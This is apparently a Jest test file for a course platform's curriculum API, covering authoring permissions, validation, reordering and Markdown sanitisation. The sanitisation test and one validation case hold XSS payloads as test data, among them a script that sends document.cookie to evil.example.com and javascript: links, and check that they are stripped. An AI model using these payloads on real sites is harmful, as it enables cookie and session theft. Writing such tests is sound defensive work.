import { randomUUID } from 'node:crypto';
import { Persona, useCourseTestApp } from './course-test-app';

describe('curriculum authoring: permissions, validation and Markdown', () => {
  const { service, api, owner, otherInstructor, student, admin } = useCourseTestApp();
  let counter = 0;

  const course = (publish = true, by: Persona = owner) =>
    service.createCourse(by, { title: `Curriculum course ${++counter}` }, { publish });
  const section = async (courseId: string, title = 'Basics', by: Persona = owner) => {
    const response = await api('POST', `/courses/${courseId}/sections`, { token: by.token, body: { title } });
    expect(response.status).toBe(201);
    return response.body as { id: string; title: string; position: number };
  };
  const lesson = async (courseId: string, sectionId: string, body: Record<string, unknown> = {}) => {
    const response = await api('POST', `/courses/${courseId}/sections/${sectionId}/lessons`, {
      token: owner.token,
      body: { title: 'A lesson', kind: 'article', ...body },
    });
    expect(response.status).toBe(201);
    return response.body as { id: string; position: number; html: string; body: string };
  };

  it('builds a curriculum that anyone can read, in order, with counts and durations and no bodies', async () => {
    const { id, slug } = await course();
    const first = await section(id, 'Getting started');
    const second = await section(id, 'Indexes');
    const inserted = await api('POST', `/courses/${id}/sections`, {
      token: owner.token,
      body: { title: 'Before anything', position: 1 },
    });
    expect(inserted.status).toBe(201);
    expect(inserted.body).toEqual({ id: expect.any(String), title: 'Before anything', position: 1 });

    const intro = await lesson(id, first.id, { title: 'Welcome', durationSeconds: 120, preview: true });
    const video = await lesson(id, first.id, {
      title: 'Setting up',
      kind: 'video',
      videoUrl: 'https://videos.example.com/setup.mp4',
      durationSeconds: 600,
    });
    const btree = await lesson(id, second.id, { title: 'B-trees', body: '# B-trees', durationSeconds: 900 });
    expect(intro.position).toBe(1);
    expect(video.position).toBe(2);
    expect(btree).toMatchObject({ position: 1, body: '# B-trees', html: '<h1>B-trees</h1>\n' });

    for (const caller of [undefined, student.token]) {
      const read = await api('GET', `/courses/${slug}/curriculum`, { token: caller });
      expect(read.status).toBe(200);
      expect(read.body).toEqual({
        sections: [
          { id: inserted.body.id, title: 'Before anything', position: 1, lessons: [] },
          {
            id: first.id,
            title: 'Getting started',
            position: 2,
            lessons: [
              {
                id: intro.id,
                title: 'Welcome',
                kind: 'article',
                durationSeconds: 120,
                preview: true,
                position: 1,
              },
              {
                id: video.id,
                title: 'Setting up',
                kind: 'video',
                durationSeconds: 600,
                preview: false,
                position: 2,
              },
            ],
          },
          {
            id: second.id,
            title: 'Indexes',
            position: 3,
            lessons: [
              {
                id: btree.id,
                title: 'B-trees',
                kind: 'article',
                durationSeconds: 900,
                preview: false,
                position: 1,
              },
            ],
          },
        ],
        lessonCount: 3,
        totalDurationSeconds: 1620,
      });
    }
  });

  it('lets only the instructor and admins author; others get 403, unknown and invisible courses 404', async () => {
    const published = await course();
    const draft = await course(false);
    const own = await section(published.id);
    const ownLesson = await lesson(published.id, own.id);

    // An admin may author any course, a draft included.
    const byAdmin = await section(draft.id, 'Added by an admin', admin);
    expect(byAdmin.position).toBe(1);

    const writes = (courseId: string, sectionId: string, lessonId: string) =>
      [
        ['POST', `/courses/${courseId}/sections`, { title: 'X' }],
        ['PATCH', `/courses/${courseId}/sections/${sectionId}`, { title: 'X' }],
        ['DELETE', `/courses/${courseId}/sections/${sectionId}`, undefined],
        ['POST', `/courses/${courseId}/sections/${sectionId}/lessons`, { title: 'X', kind: 'article' }],
        ['PATCH', `/courses/${courseId}/lessons/${lessonId}`, { title: 'X' }],
        ['DELETE', `/courses/${courseId}/lessons/${lessonId}`, undefined],
      ] as const;

    for (const [method, path, body] of writes(published.id, own.id, ownLesson.id)) {
      expect([method, path, (await api(method, path, { body })).status]).toEqual([method, path, 401]);
      for (const caller of [student, otherInstructor]) {
        const response = await api(method, path, { token: caller.token, body });
        expect([method, path, response.status]).toEqual([method, path, 403]);
        expect(response.body.message).toMatch(/instructor or an admin/);
      }
    }
    for (const [method, path, body] of [
      ...writes(draft.id, byAdmin.id, randomUUID()),
      ...writes(randomUUID(), own.id, ownLesson.id),
      ...writes('no-such-course', own.id, ownLesson.id),
    ]) {
      const response = await api(method, path, { token: otherInstructor.token, body });
      expect([method, path, response.status]).toEqual([method, path, 404]);
    }
    // The draft's curriculum is hidden from others too, and shown to its instructor and admins.
    expect((await api('GET', `/courses/${draft.id}/curriculum`)).status).toBe(404);
    expect((await api('GET', `/courses/${draft.id}/curriculum`, { token: student.token })).status).toBe(404);
    expect((await api('GET', `/courses/${draft.id}/curriculum`, { token: owner.token })).status).toBe(200);
    expect((await api('GET', `/courses/${draft.id}/curriculum`, { token: admin.token })).status).toBe(200);

    // Unknown sections and lessons of a course the caller manages are 404, as are another course's.
    const other = await course();
    const otherSection = await section(other.id);
    const otherLesson = await lesson(other.id, otherSection.id);
    for (const [method, path, body] of [
      ...writes(published.id, randomUUID(), randomUUID()).slice(1),
      ...writes(published.id, otherSection.id, otherLesson.id).slice(1),
      ...writes(published.id, 'not-a-uuid', 'not-a-uuid').slice(1),
    ]) {
      const response = await api(method, path, { token: owner.token, body });
      expect([method, path, response.status]).toEqual([method, path, 404]);
    }
    const move = await api('PATCH', `/courses/${published.id}/lessons/${ownLesson.id}`, {
      token: owner.token,
      body: { sectionId: otherSection.id },
    });
    expect(move.status).toBe(404);
    expect(move.body.message).toBe('Section not found');
  });

  it('refuses bad input with 400 and the fields at fault', async () => {
    const { id } = await course();
    const { id: sectionId } = await section(id);
    const { id: lessonId } = await lesson(id, sectionId);
    const sectionsPath = `/courses/${id}/sections`;
    const sectionPath = `${sectionsPath}/${sectionId}`;
    const lessonsPath = `${sectionPath}/lessons`;
    const lessonPath = `/courses/${id}/lessons/${lessonId}`;
    const plainHttp = 'http://videos.example.com/a.mp4';
    const cases: [string, string, unknown, string][] = [
      ['POST', sectionsPath, {}, 'title'],
      ['POST', sectionsPath, { title: '   ' }, 'title'],
      ['POST', sectionsPath, { title: 'x'.repeat(201) }, 'title'],
      ['POST', sectionsPath, { title: 'Ok', position: 0 }, 'position'],
      ['POST', sectionsPath, { title: 'Ok', position: 1.5 }, 'position'],
      ['POST', sectionsPath, { title: 'Ok', extra: true }, 'extra'],
      ['PATCH', sectionPath, { title: null }, 'title'],
      ['PATCH', sectionPath, { position: 'first' }, 'position'],
      ['POST', lessonsPath, { title: 'Ok' }, 'kind'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'podcast' }, 'kind'],
      ['POST', lessonsPath, { kind: 'article' }, 'title'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'video', videoUrl: plainHttp }, 'videoUrl'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'video', videoUrl: 'javascript:alert(1)' }, 'videoUrl'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'video', videoUrl: 'not a url' }, 'videoUrl'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'article', durationSeconds: -1 }, 'durationSeconds'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'article', durationSeconds: 86_401 }, 'durationSeconds'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'article', preview: 'yes' }, 'preview'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'article', body: 42 }, 'body'],
      ['POST', lessonsPath, { title: 'Ok', kind: 'article', body: 'x'.repeat(100 * 1024 + 1) }, 'body'],
      // 100 KB is counted in bytes: 51,201 two-byte characters are over it.
      ['POST', lessonsPath, { title: 'Ok', kind: 'article', body: 'é'.repeat(51_201) }, 'body'],
      ['PATCH', lessonPath, { videoUrl: plainHttp }, 'videoUrl'],
      ['PATCH', lessonPath, { sectionId: 'nope' }, 'sectionId'],
      ['PATCH', lessonPath, { position: -3 }, 'position'],
      ['PATCH', lessonPath, { title: null }, 'title'],
      ['PATCH', lessonPath, { body: 'x'.repeat(100 * 1024 + 1) }, 'body'],
    ];
    for (const [method, path, body, field] of cases) {
      const response = await api(method, path, { token: owner.token, body });
      expect([method, body, response.status]).toEqual([method, body, 400]);
      expect(response.body.errors.map((error: { field: string }) => error.field)).toContain(field);
    }

    // The limits themselves are accepted: exactly 100 KB of Markdown, https video URLs.
    const largest = await api('POST', `/courses/${id}/sections/${sectionId}/lessons`, {
      token: owner.token,
      body: { title: 'Largest', kind: 'article', body: 'x'.repeat(100 * 1024) },
    });
    expect(largest.status).toBe(201);
    expect(largest.body.body).toHaveLength(100 * 1024);
    const cleared = await api('PATCH', `/courses/${id}/lessons/${lessonId}`, {
      token: owner.token,
      body: { kind: 'video', videoUrl: 'https://videos.example.com/a.mp4' },
    });
    expect(cleared.body).toMatchObject({ kind: 'video', videoUrl: 'https://videos.example.com/a.mp4' });
    const removed = await api('PATCH', `/courses/${id}/lessons/${lessonId}`, {
      token: owner.token,
      body: { videoUrl: null },
    });
    expect(removed.status).toBe(200);
    expect(removed.body.videoUrl).toBeNull();
  });

  it('moves lessons within and across sections and sections within the course, closing up behind them', async () => {
    const { id } = await course();
    const one = await section(id, 'One');
    const two = await section(id, 'Two');
    const [a, b, c] = [
      await lesson(id, one.id, { title: 'a' }),
      await lesson(id, one.id, { title: 'b' }),
      await lesson(id, one.id, { title: 'c' }),
    ];
    const d = await lesson(id, two.id, { title: 'd' });
    const titles = async () =>
      (
        (await api('GET', `/courses/${id}/curriculum`)).body.sections as {
          title: string;
          position: number;
          lessons: { title: string; position: number }[];
        }[]
      ).map(
        (section) =>
          `${section.position}:${section.title}[${section.lessons.map((l) => `${l.position}${l.title}`).join(' ')}]`,
      );

    const within = await api('PATCH', `/courses/${id}/lessons/${c.id}`, {
      token: owner.token,
      body: { position: 1 },
    });
    expect(within.body).toMatchObject({ sectionId: one.id, position: 1 });
    expect(await titles()).toEqual(['1:One[1c 2a 3b]', '2:Two[1d]']);

    const across = await api('PATCH', `/courses/${id}/lessons/${a.id}`, {
      token: owner.token,
      body: { sectionId: two.id, position: 1, title: 'a2' },
    });
    expect(across.body).toMatchObject({ sectionId: two.id, position: 1, title: 'a2' });
    expect(await titles()).toEqual(['1:One[1c 2b]', '2:Two[1a2 2d]']);

    const toEnd = await api('PATCH', `/courses/${id}/lessons/${b.id}`, {
      token: owner.token,
      body: { sectionId: two.id },
    });
    expect(toEnd.body).toMatchObject({ sectionId: two.id, position: 3 });
    expect(await titles()).toEqual(['1:One[1c]', '2:Two[1a2 2d 3b]']);

    const sectionMove = await api('PATCH', `/courses/${id}/sections/${two.id}`, {
      token: owner.token,
      body: { position: 1, title: 'Second' },
    });
    expect(sectionMove.body).toEqual({ id: two.id, title: 'Second', position: 1 });
    expect(await titles()).toEqual(['1:Second[1a2 2d 3b]', '2:One[1c]']);

    expect((await api('DELETE', `/courses/${id}/lessons/${d.id}`, { token: owner.token })).status).toBe(204);
    expect(await titles()).toEqual(['1:Second[1a2 2b]', '2:One[1c]']);
  });

  it('deletes a section only when it is empty (409 otherwise), and closes up the positions', async () => {
    const { id } = await course();
    const first = await section(id, 'One');
    const second = await section(id, 'Two');
    const third = await section(id, 'Three');
    const inSecond = await lesson(id, second.id);

    const refused = await api('DELETE', `/courses/${id}/sections/${second.id}`, { token: owner.token });
    expect(refused.status).toBe(409);
    expect(refused.body.message).toMatch(/still has 1 lesson/);

    expect(
      (await api('DELETE', `/courses/${id}/lessons/${inSecond.id}`, { token: owner.token })).status,
    ).toBe(204);
    expect(
      (await api('DELETE', `/courses/${id}/lessons/${inSecond.id}`, { token: owner.token })).status,
    ).toBe(404);
    expect((await api('DELETE', `/courses/${id}/sections/${second.id}`, { token: owner.token })).status).toBe(
      204,
    );
    expect((await api('DELETE', `/courses/${id}/sections/${first.id}`, { token: admin.token })).status).toBe(
      204,
    );

    const read = await api('GET', `/courses/${id}/curriculum`);
    expect(read.body).toEqual({
      sections: [{ id: third.id, title: 'Three', position: 1, lessons: [] }],
      lessonCount: 0,
      totalDurationSeconds: 0,
    });
  });

  it('stores the Markdown as given and serves sanitised HTML: scripts and javascript: links are stripped', async () => {
    const { id } = await course();
    const { id: sectionId } = await section(id);
    const markdown = [
      '## Safe enough',
      '',
      'Read [the manual](https://www.postgresql.org/docs/) and press <kbd>Enter</kbd>.',
      '',
      '<script>document.location = "https://evil.example.com/?" + document.cookie</script>',
      '',
      '[click me](javascript:alert(document.cookie))',
      '',
      '<a href="javascript:alert(1)" onclick="alert(2)">raw link</a> <img src="https://cdn.example.com/a.png" onerror="alert(3)">',
      '',
      '<iframe src="https://evil.example.com"></iframe>',
    ].join('\n');
    const created = await lesson(id, sectionId, { body: markdown, preview: true });
    expect(created.body).toBe(markdown);

    const opened = await api('GET', `/courses/${id}/lessons/${created.id}`);
    expect(opened.status).toBe(200);
    expect(opened.body.body).toBe(markdown);
    const html = opened.body.html as string;
    expect(html).toContain('<h2>Safe enough</h2>');
    expect(html).toContain(
      '<a href="https://www.postgresql.org/docs/" rel="nofollow noopener noreferrer">the manual</a>',
    );
    expect(html).toContain('<kbd>Enter</kbd>');
    expect(html).toContain('<a rel="nofollow noopener noreferrer">click me</a>');
    expect(html).toContain('<img src="https://cdn.example.com/a.png" />');
    expect(html).not.toMatch(
      /<script|document\.cookie|evil\.example\.com|javascript:|onclick|onerror|<iframe|alert/i,
    );

    // A changed body is rendered again.
    const changed = await api('PATCH', `/courses/${id}/lessons/${created.id}`, {
      token: owner.token,
      body: { body: '*now* <script>alert(1)</script>' },
    });
    expect(changed.status).toBe(200);
    expect(changed.body.html).toBe('<p><em>now</em> </p>\n');
  });
});
